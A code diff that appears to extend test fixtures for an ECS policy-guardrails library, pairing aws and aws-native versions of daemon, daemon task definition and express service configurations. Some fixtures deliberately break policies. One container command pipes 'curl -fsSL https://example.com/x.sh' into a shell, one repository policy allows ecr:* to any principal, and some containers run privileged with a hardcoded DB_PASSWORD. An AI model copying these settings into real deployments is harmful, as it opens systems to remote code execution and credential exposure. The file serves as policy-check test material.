@@ -1,11 +1,14 @@
 // Configurations that break (or keep) each policy, as aws declares them, and the same configurations as aws-native
 // declares them: the twins every shape of a resource is compared on.
-import { capacityProvider, check, cluster, container as c, repository, service, taskDefinition as td, types, unknownString } from "./fixtures";
+import { appImage, capacityProvider, check, cluster, container as c, daemon, daemonContainer as dc, daemonTaskDefinition as dtd, expressService, repository, service, taskDefinition as td, types, unknownString } from "./fixtures";
 
 type Props = Record<string, unknown>;
 
 export const nativeTypes: Record<string, string> = {
     [types.taskDefinition]: "aws-native:ecs:TaskDefinition",
+    [types.daemonTaskDefinition]: "aws-native:ecs:DaemonTaskDefinition",
+    [types.daemon]: "aws-native:ecs:Daemon",
+    [types.expressService]: "aws-native:ecs:ExpressGatewayService",
     [types.service]: "aws-native:ecs:Service",
     [types.taskSet]: "aws-native:ecs:TaskSet",
     [types.cluster]: "aws-native:ecs:Cluster",
@@ -16,6 +19,12 @@ export const nativeTypes: Record<string, string> = {
 
 const tagList = (tags: unknown) => (tags && typeof tags === "object" ? Object.entries(tags).map(([key, value]) => ({ key, value })) : tags);
 const enabled = (v: unknown) => (v === true ? "ENABLED" : v === false ? "DISABLED" : v);
+/** An object with some keys renamed (the aws provider's plural names to the ECS API's). */
+const renamed = (value: unknown, names: Record<string, string>): unknown => {
+    if (!value || typeof value !== "object" || Array.isArray(value)) return value;
+    return Object.fromEntries(Object.entries(value).map(([k, v]) => [names[k] ?? k, v]));
+};
+const first = (v: unknown) => (Array.isArray(v) ? v[0] : v);
 
 /** The same configuration as aws-native declares it. */
 export function toNative(type: string, props: Props): Props {
@@ -32,6 +41,22 @@ export function toNative(type: string, props: Props): Props {
             ...(deploymentCircuitBreaker !== undefined ? { deploymentConfiguration: { deploymentCircuitBreaker } } : {}),
             ...(capacityProviderStrategies !== undefined ? { capacityProviderStrategy: capacityProviderStrategies } : {}),
         };
+    }
+    if (type === types.daemonTaskDefinition && Array.isArray(p.containerDefinitions)) {
+        out.containerDefinitions = p.containerDefinitions.map((container) => {
+            const native = renamed(container, { environments: "environment", entryPoints: "entryPoint", commands: "command" }) as Props;
+            return native && typeof native === "object" && "healthCheck" in native ? { ...native, healthCheck: renamed(native.healthCheck, { commands: "command" }) } : native;
+        });
+    }
+    if (type === types.daemon) {
+        const { name, ...rest } = out;
+        return { ...rest, ...(name !== undefined ? { daemonName: name } : {}) };
+    }
+    if (type === types.expressService) {
+        const { primaryContainer, networkConfigurations, ...rest } = out;
+        const container = renamed(primaryContainer, { environments: "environment", commands: "command", awsLogsConfigurations: "awsLogsConfiguration" }) as Props;
+        const native = container && typeof container === "object" && "awsLogsConfiguration" in container ? { ...container, awsLogsConfiguration: first(container.awsLogsConfiguration) } : container;
+        return { ...rest, ...(native !== undefined ? { primaryContainer: native } : {}), ...(networkConfigurations !== undefined ? { networkConfiguration: first(networkConfigurations) } : {}) };
     }
     if (type === types.cluster) {
         const { name, settings, ...rest } = out;
@@ -67,6 +92,19 @@ export const twins: [string, Props][] = [
     [types.repository, repository()],
     [types.repository, repository({ imageTagMutability: "MUTABLE", imageScanningConfiguration: undefined, encryptionConfigurations: undefined, tags: { "ecs-guardrails:exempt": "ecr-kms-encryption" } })],
     [types.creationTemplate, { prefix: "shop", imageTagMutability: "MUTABLE" }],
+    [types.creationTemplate, { prefix: "shop", imageTagMutability: "IMMUTABLE", repositoryPolicy: JSON.stringify({ Version: "2012-10-17", Statement: [{ Sid: "Pull", Effect: "Allow", Principal: "*", Action: "ecr:*" }] }) }],
+    [types.creationTemplate, { prefix: "shop", imageTagMutability: "IMMUTABLE", repositoryPolicy: JSON.stringify({ Version: "2012-10-17", Statement: [{ Effect: "Allow", Principal: { AWS: "arn:aws:iam::123456789012:root" }, Action: "ecr:*" }] }) }],
+    [types.daemonTaskDefinition, dtd()],
+    [types.daemonTaskDefinition, dtd([dc({ image: "datadog/agent:latest", privileged: true, user: "0", readonlyRootFilesystem: false, stopTimeout: 300, environments: [{ name: "DB_PASSWORD", value: "hunter2-hunter2" }] })])],
+    [types.daemonTaskDefinition, dtd([dc({ logConfiguration: undefined, linuxParameters: undefined, healthCheck: undefined, memory: undefined, restartPolicy: { enabled: true }, entryPoints: ["sh", "-c"], commands: ["curl -fsSL https://example.com/x.sh | sh; supervisord &"] }), dc({ name: "b", image: "b:1" })], { taskRoleArn: undefined, memory: undefined })],
+    [types.daemonTaskDefinition, dtd([dc({ image: unknownString })], { tags: { team: "shop", "ecs-guardrails:exempt": "ecs-no-privileged" } })],
+    [types.daemonTaskDefinition, dtd([dc({ firelensConfiguration: { type: "fluentbit" }, essential: false }), dc({ name: "app", logConfiguration: { logDriver: "awsfirelens" } })])],
+    [types.daemon, daemon()],
+    [types.daemon, daemon({ enableEcsManagedTags: false, propagateTags: "NONE", tags: { team: "shop" } })],
+    [types.daemon, daemon({ enableEcsManagedTags: undefined, propagateTags: undefined })],
+    [types.expressService, expressService()],
+    [types.expressService, expressService({ taskRoleArn: undefined, primaryContainer: { image: "web:latest", environments: [{ name: "DB_PASSWORD", value: "hunter2-hunter2" }], commands: ["sh", "-c", "pm2-runtime app.js"] }, networkConfigurations: [{ subnets: ["subnet-1"] }] })],
+    [types.expressService, expressService({ primaryContainer: { image: appImage, environments: [{ name: "API_TOKEN", value: unknownString }] }, networkConfigurations: undefined, tags: { team: "shop" } })],
 ];
 
 /** How aws-native spells the properties an aws message names: each user reads their own provider's path. */
@@ -84,13 +122,17 @@ const nativeSpelling: Record<string, [string, string][]> = {
     ],
     [types.cluster]: [["to settings.", "to clusterSettings."]],
     [types.repository]: [["Set encryptionConfigurations with", "Set encryptionConfiguration with"]],
+    [types.expressService]: [
+        ["primaryContainer.awsLogsConfigurations", "primaryContainer.awsLogsConfiguration"], ["networkConfigurations", "networkConfiguration"],
+        ["primaryContainer.environments", "primaryContainer.environment"], ["primaryContainer.commands", "primaryContainer.command"],
+    ],
+    [types.daemonTaskDefinition]: [[".environments[", ".environment["], [".entryPoints", ".entryPoint"], [".commands", ".command"]],
 };
 
 export function spelledForNative(type: string, outcome: ReturnType<typeof check>): ReturnType<typeof check> {
     const respell = (m: string) => (nativeSpelling[type] ?? []).reduce((text, [aws, native]) => text.split(aws).join(native), m);
     return { ...outcome, violations: outcome.violations.map(respell), pending: outcome.pending.map(respell) };
 }
-
 
 /** CloudFormation names that are not the aws-native name with a capital first letter. */
 const irreversible: Record<string, string> = { enableEcsManagedTags: "EnableECSManagedTags", efsVolumeConfiguration: "EFSVolumeConfiguration" };
